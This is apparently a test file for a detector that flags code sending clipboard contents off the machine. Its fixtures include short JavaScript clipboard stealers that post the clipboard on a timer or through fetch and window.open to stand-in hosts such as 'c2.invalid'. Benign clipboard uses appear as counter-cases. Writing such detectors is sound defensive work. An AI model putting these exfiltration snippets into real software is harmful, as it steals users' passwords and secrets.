import { examine } from '../../../test/examine.ts';
import { sendsClipboard } from './sends-clipboard.ts';

examine(sendsClipboard, {
  speaks: [
    {
      when: 'a program shares the clipboard with the machines that its user has set up, as its page says',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specimen\n\nCopy here, paste there. Peers find each other in the network of your home; the clipboard is sent over TCP, encrypted with a phrase that you type on both.',
        'cli.js': `const { execFileSync } = require('child_process'), net = require('net'); net.connect(48312, process.argv[2]).end(execFileSync('pbpaste'));`,
      },
      weight: 'weak',
    },
    {
      when: 'a command of each system reads it',
      files: {
        'index.js': `const { execFile } = require('child_process'); const readers = { darwin: ['pbpaste', []], linux: ['xclip', ['-o']], win32: ['powershell', ['-Command', 'Get-Clipboard']] }; const read = () => new Promise(done => execFile(...readers[process.platform], (error, out) => done(out))); setInterval(async () => fetch('https://c.invalid', { method: 'POST', body: await read() }), 1e4);`,
      },
      weight: 'proof',
    },
    {
      when: 'a pasted path opens a page of its own, as everybody sees',
      files: { 'index.js': `navigator.clipboard.readText().then(text => { window.open('/' + text); });` },
      weight: 'context',
    },
    {
      when: 'what is read there is carried to a host of its own in a window',
      files: { 'index.js': `navigator.clipboard.readText().then(text => { window.open('https://k.invalid/?' + text); });` },
      weight: 'weak',
    },
    {
      when: 'a timer sends it',
      files: {
        'index.js': `const c = require('clipboardy'); setInterval(() => { fetch('https://c2.invalid/', { method: 'POST', body: c.readSync() }) }, 500)`,
      },
      weight: 'proof',
      says: ['c2.invalid'],
    },
    {
      when: 'a page sends it when called',
      files: {
        'index.js': `export async function go() { const t = await navigator.clipboard.readText(); await fetch('https://c2.invalid/?' + t) }`,
      },
      weight: 'strong',
    },
    {
      when: 'another host is named without a scheme',
      files: { 'index.js': `export async function look() { await fetch('//a.invalid/' + (await navigator.clipboard.readText())) }` },
      weight: 'strong',
    },
    {
      when: 'a page asks its own host for what was pasted',
      files: { 'index.js': `export async function look() { await fetch('/search/' + (await navigator.clipboard.readText())) }` },
      weight: 'context',
    },
  ],
  silent: [
    {
      when: 'what is pasted may become a style of an element, which names no address',
      files: {
        'index.js': `exports.paste = async () => { const text = await navigator.clipboard.readText(); document.querySelector('#paper').style.cssText = text; };`,
      },
    },
    {
      when: 'a command puts there what is fetched',
      files: {
        'index.js': `const { execFileSync } = require('child_process'); exports.share = async file => { const answer = await fetch('https://paste.acme.invalid', { method: 'POST', body: file }); execFileSync('pbcopy', { input: await answer.text() }); };`,
      },
    },
    { when: 'a button copies', files: { 'index.js': `export const copy = text => navigator.clipboard.writeText(text)` } },
    {
      when: 'an answer is copied',
      files: {
        'index.js': `export async function get() { const r = await fetch('https://api.invalid/'); navigator.clipboard.writeText(await r.text()) }`,
      },
    },
    {
      when: 'it is read and kept',
      files: { 'index.js': `exports.read = () => require('clipboardy').readSync(); fetch('https://api.invalid/')` },
    },
  ],
});
